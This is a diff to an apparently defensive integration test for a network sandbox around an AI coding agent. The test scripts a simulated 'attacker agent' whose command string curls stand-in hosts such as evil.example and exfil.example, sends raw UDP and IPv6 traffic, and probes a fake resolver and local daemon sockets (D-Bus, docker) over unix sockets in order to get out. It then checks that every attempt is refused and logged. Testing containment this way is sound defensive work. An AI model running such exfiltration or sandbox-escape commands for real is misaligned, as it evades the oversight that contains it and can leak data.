@@ -1,17 +1,22 @@
 /**
  * network: restricted (the default) against an agent that tries to get out (issue 28): through the forward proxy
  * to host names not allowed (plain HTTP and TLS), a raw TCP connection to 127.0.0.2 (standing in for the
- * internet: not the proxies' address), a datagram to a fake resolver there, and IPv6 to ::1; and an allowed
+ * internet: not the proxies' address), a datagram to a fake resolver there, and IPv6 to ::1; through a local
+ * daemon (issue 39): a stand-in resolver daemon on a unix socket (mode 0666, as systemd-resolved's varlink socket
+ * is) and every well-known service socket this host has (D-Bus, docker, …), none of which it reaches; and an allowed
  * name (`localhost`, through the proxy) that reaches its server. The model calls work (the run finishes); every
  * refused host and the dropped packets are in the job summary; no rule of the run is left. As root and as a
  * hosted runner's sudo user, and in both modes (the TUI's tmux server is the agent's too, behind the same rules).
  */
 import { createSocket } from 'node:dgram';
+import { chmod, lstat, mkdtemp, readFile, rm } from 'node:fs/promises';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { SERVICE_SOCKETS } from '../../src/isolation/local-services.js';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Script } from '../../src/fake/gemini-api.js';
-import { readFile } from 'node:fs/promises';
 import { EGRESS_WRAPPER } from '../../src/isolation/egress-wrapper.js';
 import { exec } from '../../src/util/exec.js';
 import { hostLabel, hostedRunner, type RunnerUser } from '../harness/hosted-runner.js';
@@ -25,7 +30,10 @@ async function listen(server: Server, host: string): Promise<number> {
   return (server.address() as AddressInfo).port;
 }
 
-function attack(p: { outside: number; v6: number; udp: number; allowed: number }): Script {
+function attack(
+  p: { outside: number; v6: number; udp: number; allowed: number },
+  sockets: { resolver: string; wellKnown: readonly string[] },
+): Script {
   const command = [
     `curl -s -m 5 -w 'EVIL %{http_code}\\n' http://evil.example/ >> NET.txt;`,
     `curl -s -m 5 https://exfil.example/; echo "TLS $?" >> NET.txt;`,
@@ -33,6 +41,11 @@ function attack(p: { outside: number; v6: number; udp: number; allowed: number }
     `echo query > /dev/udp/127.0.0.2/${p.udp}; echo "DNS $?" >> NET.txt;`,
     `curl -s -m 5 -g --noproxy '*' http://[::1]:${p.v6}/; echo "V6 $?" >> NET.txt;`,
     `curl -s -m 5 --noproxy '' http://localhost:${p.allowed}/ >> NET.txt;`,
+    `curl -s -m 5 --unix-socket '${sockets.resolver}' 'http://resolver/lookup?name=secret.exfil.example' >> NET.txt; echo "RESOLVER $?" >> NET.txt;`,
+    ...sockets.wellKnown.map(
+      (s) =>
+        `curl -s -m 5 --unix-socket '${s}' http://localhost/ > /dev/null 2>&1; echo "SOCKET ${s} $?" >> NET.txt;`,
+    ),
     "git add NET.txt && git commit -q -m 'Network'",
   ].join(' ');
   return {
@@ -61,6 +74,8 @@ describe.skipIf(!root)('network: restricted (action, attacker agent)', () => {
       const servers: Server[] = [];
       const udp = createSocket('udp4');
       let ports = { outside: 0, v6: 0, udp: 0, allowed: 0 };
+      let resolverDir = '';
+      let sockets = { resolver: '', wellKnown: [] as string[] };
       beforeAll(async () => {
         world = worldOf();
         if (host === 'hosted') ({ user: asUser, release } = await hostedRunner(world));
@@ -81,17 +96,33 @@ describe.skipIf(!root)('network: restricted (action, attacker agent)', () => {
           // Dual stack: the proxy may resolve localhost to either family.
           allowed: await listen(serve('ALLOWED'), '::'),
         };
+        // The stand-in resolver daemon: it would look the name up for whoever asks, as itself.
+        resolverDir = await mkdtemp(join(tmpdir(), 'gemini-run-resolved-'));
+        await chmod(resolverDir, 0o755);
+        const resolver = join(resolverDir, 'io.systemd.Resolve');
+        await new Promise<void>((r) => serve('RESOLVER').listen(resolver, r));
+        await chmod(resolver, 0o666);
+        const present = await Promise.all(
+          SERVICE_SOCKETS.map((p) =>
+            lstat(p).then(
+              (st) => (st.isSocket() ? p : undefined),
+              () => undefined,
+            ),
+          ),
+        );
+        sockets = { resolver, wellKnown: present.filter((p): p is string => p !== undefined) };
       });
       afterAll(async () => {
         for (const s of servers) await new Promise((r) => s.close(r));
         udp.close();
+        await rm(resolverDir, { recursive: true, force: true });
         await release?.();
       });
 
       it('refuses every way out but the allowed host, lists them, finishes, and leaves no rule', async () => {
         const r = await world.run({
           mode,
-          script: attack(ports),
+          script: attack(ports, sockets),
           // localhost resolves to loopback, inside the runner: reached only because its addresses are named too.
           inputs: { 'allowed-hosts': 'localhost 127.0.0.1 ::1' },
           ...(asUser ? { asUser } : {}),
@@ -107,6 +138,13 @@ describe.skipIf(!root)('network: restricted (action, attacker agent)', () => {
         }
         expect(net).toContain('ALLOWED-REACHED');
         expect(reached).toEqual(['ALLOWED']);
+        // No local daemon answered the agent: curl could not connect (7) to any of their sockets.
+        expect(net).toContain('RESOLVER 7');
+        for (const s of sockets.wellKnown) expect(net).toContain(`SOCKET ${s} 7`);
+        expect(r.main.stdout).toMatch(
+          /mount namespace of their own with \d+ local service socket\(s\) hidden/,
+        );
+        expect(r.main.summary).not.toContain('the agent could reach');
         // Visible: the job summary lists both refused names and counts the dropped packets.
         expect(r.main.summary).toMatch(
           /\*\*Network `restricted`: 2 request\(s\) to 2 host\(s\) refused, \d+ direct packet/,
